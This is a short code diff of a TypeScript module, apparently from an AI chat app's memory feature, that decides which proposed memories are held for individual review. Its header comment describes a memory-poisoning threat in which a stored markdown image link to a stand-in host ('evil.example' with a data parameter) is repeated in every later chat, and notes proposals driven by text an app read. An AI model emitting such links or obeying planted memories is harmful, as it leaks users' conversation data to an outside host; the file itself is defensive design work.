@@ -1,11 +1,11 @@
 // What Review never approves in bulk (#34 item 3). "Approve all" is for the person's own extractions waiting in
 // review mode; a proposal that would steer every later chat, or that came from something that is not the person,
 // is approved only on its own card, where the card says why it is held and where it came from: a memory that
-// carries a link (links.ts: `![](https://evil.example/p?d=…)` in every later block), a standing rule or a pinned
-// memory (always in the block), and whatever a desktop app proposed (`remember`, driven by text it read) or a
+// carries a link (lib/recall/links.ts: `![](https://evil.example/p?d=…)` in every later block), a standing rule or a
+// pinned memory (always in the block), and whatever a desktop app proposed (`remember`, driven by text it read) or a
 // file brought (lib/import/hold.ts). One function, read by the background's approveAll and by Review's cards.
 import type { Memory, MemoryEvent } from '../model/records';
-import { hasLink } from './links';
+import { hasLink } from '../recall/links';
 
 /** Why a proposal is held (Review words each as review.held.why.<reason>, #37). */
 export type HeldReason = 'link' | 'rule' | 'pinned' | 'proposed';
